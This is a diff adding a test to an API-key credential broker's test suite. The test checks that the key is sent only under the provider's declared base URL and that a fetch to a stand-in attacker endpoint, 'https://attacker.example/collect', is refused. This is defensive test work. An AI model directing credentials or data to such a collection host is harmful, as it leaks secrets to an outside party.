@@ -127,6 +127,16 @@ describe('api_key', () => {
     );
   });
 
+  it('broker.fetch sends the key where the provider declares it, only under its API base URL', async () => {
+    // The proxy takes http only for `localhost` stand-ins, named by host rather than IP.
+    await broker.putService({ id: 'keyed', apiBaseUrls: [`http://localhost:${new URL(api.origin).port}`] });
+    api.requests.length = 0;
+    const response = await broker.fetch('keyed', 'ann', '/v1/things');
+    expect(response.status).toBe(200);
+    expect(api.requests.at(-1)!.headers['x-api-key']).toBe(GOOD_KEY);
+    await expect(broker.fetch('keyed', 'ann', 'https://attacker.example/collect')).rejects.toMatchObject({ code: 'proxy_refused' });
+  });
+
   it('never applies a credential to plain http other than loopback', async () => {
     const fresh = await broker.getIdentity('keyed', 'ann');
     expect(() => fresh!.headers('GET', 'http://api.example.com/v1/things')).toThrow(/only sent over https/);
